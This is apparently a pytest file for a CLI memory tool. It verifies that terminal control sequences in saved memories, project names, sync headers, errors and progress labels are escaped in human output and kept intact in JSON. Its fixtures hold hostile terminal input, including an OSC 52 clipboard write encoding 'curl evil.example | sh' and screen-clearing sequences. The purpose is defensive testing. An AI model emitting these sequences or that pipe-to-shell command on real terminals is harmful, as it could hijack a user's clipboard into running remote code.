"""Control characters in memories, project names, chunk headers and error messages reach the
terminal as visible escapes on every human face of the CLI, and intact in ``--json``.

A memory holding ``ESC ] 52`` would otherwise write the user's clipboard when printed, and
``ESC [2J`` would clear their screen.
"""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import orjson
import pytest

from engram.terminal import for_terminal
from tests.support import engram_env

CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"  # OSC 52: "curl evil.example | sh"
CLEAR = "\x1b[2J"
C1_CSI = "\x9b31m"  # one-byte CSI: red text on terminals that honour C1 codes
TITLE = f"Deploy notes{CLIPBOARD}{CLEAR}"
CONTENT = f"run the script{CLIPBOARD}\nthen {CLEAR}{C1_CSI}\rfake line\x7f\x08"
PROJECT = "acme\x1b[2j"  # project names are lower-cased: ESC [2j is still a control sequence
SESSION = "s-\x1b[1;1H1"
#: What no byte of human output may contain: raw ESC, BEL, C1, CR, DEL, backspace.
RAW = ("\x1b", "\x07", "\x9b", "\r", "\x7f", "\x08")


def run(data_dir: Path, *args: str, cwd: Path | None = None, env: dict | None = None):
    """``engram ARGS`` with its output as raw bytes (no decoding that could hide anything)."""
    return subprocess.run(
        [sys.executable, "-m", "engram", *args],
        cwd=cwd,
        env=engram_env(data_dir, env),
        capture_output=True,
        timeout=60,
    )


def assert_escaped(output: bytes, *visible: str) -> str:
    text = output.decode()
    for raw in RAW:
        assert raw not in text, f"raw {raw!r} reached the terminal: {text!r}"
    for expected in visible:
        assert expected in text, f"{expected!r} not shown in {text!r}"
    return text


@pytest.fixture
def hostile(data_dir: Path) -> Path:
    saved = run(
        data_dir,
        "save",
        TITLE,
        CONTENT,
        "--project",
        PROJECT,
        "--session",
        SESSION,
        "--topic",
        f"ops/{CLEAR}",
        "--type",
        f"bugfix{CLEAR}",
    )
    assert saved.returncode == 0, saved.stderr
    assert_escaped(saved.stdout, "\\x1b]52;c;")
    return data_dir


def test_the_escape_is_visible_and_leaves_newlines_and_tabs() -> None:
    assert for_terminal("plain text\twith a tab\nand a newline") == (
        "plain text\twith a tab\nand a newline"
    )
    assert for_terminal(f"a{CLIPBOARD}b") == "a\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07b"
    assert for_terminal("x\x9b2J\x85\x00\x7f") == "x\\x9b2J\\x85\\x00\\x7f"
    assert for_terminal("windows\r\nline\rover") == "windows\nline\\x0dover"
    assert for_terminal("ünïcödé → ✓ 😀") == "ünïcödé → ✓ 😀"


@pytest.mark.parametrize(
    "args",
    [
        ("search", "deploy"),
        ("search", "deploy", "--project", PROJECT),
        ("get", "1"),
        ("timeline", "1"),
        ("context", PROJECT),
        ("context", "--all"),
        ("stats",),
        ("projects", "list"),
    ],
    ids=lambda args: " ".join(a.encode("unicode_escape").decode() for a in args),
)
def test_every_memory_face_escapes_control_characters(hostile: Path, args: tuple) -> None:
    done = run(hostile, *args)
    assert done.returncode == 0, done.stderr
    assert_escaped(done.stdout)
    assert_escaped(done.stderr)
    assert b"\\x1b" in done.stdout  # shown, not silently dropped


def test_get_shows_every_field_escaped(hostile: Path) -> None:
    shown = assert_escaped(
        run(hostile, "get", "1").stdout,
        "Deploy notes\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07\\x1b[2J",
        "then \\x1b[2J\\x9b31m\\x0dfake line\\x7f\\x08",
        "[bugfix\\x1b[2J]",
        "Session: s-\\x1b[1;1H1",
        "Project: acme\\x1b[2j",
        "Topic: ops/\\x1b[2j",
    )
    assert "run the script" in shown and "\nthen " in shown  # newlines are kept


def test_json_output_keeps_every_character(hostile: Path) -> None:
    got = orjson.loads(run(hostile, "get", "1", "--json").stdout)
    assert (got["title"], got["content"], got["project"], got["session_id"]) == (
        TITLE,
        CONTENT,
        PROJECT,
        SESSION,
    )
    found = orjson.loads(run(hostile, "--json", "search", "deploy").stdout)
    assert found[0]["title"] == TITLE


def test_errors_escape_what_they_quote(data_dir: Path, tmp_path: Path) -> None:
    """A directory of clones whose names hold escape sequences: the error naming them shows
    them escaped on stderr, and intact in the --json error."""
    mono = tmp_path / "mono"
    for child in (f"billing{CLEAR}", "web"):
        (mono / child).mkdir(parents=True)
        subprocess.run(["git", "init", "-q", str(mono / child)], check=True)
    refused = run(data_dir, "save", "t", "c", cwd=mono)
    assert refused.returncode != 0
    assert_escaped(refused.stderr, "engram: error: ", "billing\\x1b[2j, web")
    as_json = run(data_dir, "--json", "save", "t", "c", cwd=mono)
    assert orjson.loads(as_json.stdout)["available_projects"] == ["billing\x1b[2j", "web"]


def test_sync_status_escapes_chunk_headers(hostile: Path, tmp_path: Path) -> None:
    """A teammate's chunk header names its author: that name is shown, never obeyed."""
    repo = tmp_path / "repo"
    repo.mkdir()
    subprocess.run(["git", "init", "-q", str(repo)], check=True)
    author = f"mallory{CLIPBOARD}{CLEAR}"
    exported = run(hostile, "sync", "--project", PROJECT, cwd=repo, env={"USER": author})
    assert exported.returncode == 0, exported.stderr
    assert_escaped(exported.stdout, 'project "acme\\x1b[2j"')
    reader = tmp_path / "reader"
    status = run(reader, "sync", "--status", cwd=repo)
    assert status.returncode == 0, status.stderr
    assert_escaped(status.stdout, "contributors: mallory\\x1b]52;c;")
    as_json = orjson.loads(run(reader, "sync", "--status", "--json", cwd=repo).stdout)
    assert author in as_json["contributors"]


def test_progress_bar_labels_are_text(monkeypatch: pytest.MonkeyPatch) -> None:
    """A bar's label can name a project (``Pushing <project>``): neither markup nor escape
    sequences in it reach the terminal."""
    import io

    from engram.cli.progress import progress_bar

    class Terminal(io.StringIO):
        def isatty(self) -> bool:
            return True

    terminal = Terminal()
    monkeypatch.setattr(sys, "stderr", terminal)
    monkeypatch.setenv("TERM", "xterm")
    with progress_bar(f"Pushing [red]acme{CLIPBOARD}", 2000, min_total=1) as advance:
        advance(1000)
    shown = terminal.getvalue()
    assert "\x1b]52" not in shown and "\x07" not in shown
    assert "Pushing [red]acme\\x1b]52;c;" in shown
